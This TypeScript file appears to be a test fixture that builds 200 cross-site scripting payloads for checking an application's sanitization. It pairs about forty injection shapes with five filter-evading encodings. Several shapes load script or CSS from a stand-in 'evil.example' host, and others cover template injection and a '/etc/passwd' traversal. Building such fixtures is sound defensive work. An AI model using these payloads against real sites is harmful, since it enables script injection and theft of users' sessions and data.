/** Set by every payload that a browser runs. */
export const runMark = '__pwned'

const run = `window.${runMark}=1`

/** Texts that run a script where they are taken for markup, an address, a template, a style or a name. */
const shapes = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<!--<script>${run}</script>-->`,
  `--><script>${run}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `' onmouseover='${run}' autofocus onfocus='${run}`,
  `" onfocus="${run}" autofocus="`,
  `<svg onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math><mtext></form><mglyph><style></math><img src onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href=" data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `javascript:${run}//`,
  `data:text/html,<script>${run}</script>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<p style="background:url(javascript:${run})">x</p>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="https://evil.example/">`,
  `</textarea></title></style><img src=x onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `{{constructor.constructor('${run}')()}}`,
  '${' + run + '} #{' + run + '} <%= ' + run + ' %>',
  `__CSP_NONCE__ <!--page-state--> __PORTAL_SETTINGS__ <script>${run}</script>`,
  `]]><script>${run}</script><![CDATA[`,
  `$& $\` $' $1 <b onclick=${run}>`,
  `../../../../etc/passwd<script>${run}</script>`,
]

const encodings: ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (text) => `&#34;${text.replaceAll('<', '&lt;').replaceAll('>', '&#x3e;')}`,
  // Full width, right to left, and without width: what normalization or a careless filter makes markup of.
  (text) => `\u202e${text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e')}\u200b\ufeff${text}`,
  (text) => `${text.slice(0, 2)}\0${text.slice(2)}`,
]

/** Returns 200 hostile texts: every shape in every encoding. */
export const hostileTexts: readonly string[] = encodings.flatMap((encode) => shapes.map(encode))

/** Hostile texts for screens: every other shape as it is, and a word without end. */
export const fewHostileTexts: readonly string[] = [
  ...shapes.filter((_, index) => index % 2 === 1),
  'W'.repeat(200),
]
